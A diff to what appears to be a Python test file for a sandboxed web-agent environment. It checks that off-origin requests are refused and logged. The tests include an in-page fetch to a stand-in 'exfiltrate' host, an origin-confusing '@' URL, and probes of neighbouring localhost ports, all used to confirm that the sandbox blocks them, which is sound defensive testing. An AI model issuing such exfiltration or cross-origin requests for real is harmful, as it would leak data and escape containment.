@@ -48,7 +48,7 @@ async def test_element_ids_are_stable_across_observations(shop_task) -> None:
         assert ids(reloaded) == ids(first)
 
 
-async def test_off_origin_requests_are_blocked_by_the_route(shop_task) -> None:
+async def test_off_origin_requests_are_refused_and_recorded(shop_task) -> None:
     async with envgym.make("web/shop-v1") as env:
         await env.reset(task=shop_task)
         episode = env.unwrapped.episode
@@ -58,12 +58,13 @@ async def test_off_origin_requests_are_blocked_by_the_route(shop_task) -> None:
             try { await fetch('http://198.51.100.7/exfiltrate'); return 'reached'; } catch (e) { return 'failed'; }
         }""")
         assert outcome == "failed"
-        with pytest.raises(Exception, match="ERR_BLOCKED_BY_CLIENT"):
+        with pytest.raises(Exception, match="ERR_EMPTY_RESPONSE"):
             await episode.page.goto("http://203.0.113.9/")
         port = int(episode.origin.rsplit(":", 1)[1])
         neighbour = f"http://127.0.0.1:{port + 1 if port < 65535 else port - 1}/"  # another env's server, say
-        for url in (neighbour, f"{episode.origin}@192.0.2.5/"):
-            with pytest.raises(Exception, match="ERR_BLOCKED_BY_CLIENT"):
+        for url in (neighbour, f"{episode.origin}@192.0.2.5/", episode.origin.replace("http:", "https:") + "/",
+                    f"http://localhost:{port}/", "https://example.org/"):
+            with pytest.raises(Exception, match="ERR_EMPTY_RESPONSE"):
                 await episode.page.goto(url)
         step = await env.step(Action.call("goto", url="https://example.com/"))
         assert "limited to this site" in step.observation.last_action_error
@@ -71,8 +72,9 @@ async def test_off_origin_requests_are_blocked_by_the_route(shop_task) -> None:
             if "http://192.0.2.1/pixel.png" in episode.blocked:
                 break
             await asyncio.sleep(0.05)
-        assert {"http://192.0.2.1/pixel.png", "http://198.51.100.7/exfiltrate", "http://203.0.113.9/", neighbour} <= \
-            set(episode.blocked)
+        assert {"http://192.0.2.1/pixel.png", "http://198.51.100.7/exfiltrate", "http://203.0.113.9/", neighbour,
+                "http://192.0.2.5/", f"https://127.0.0.1:{port}", f"http://localhost:{port}/",
+                "https://example.org:443"} <= set(episode.blocked)
 
 
 async def test_concurrent_episodes_do_not_share_cookies_or_state(forum_tasks) -> None:
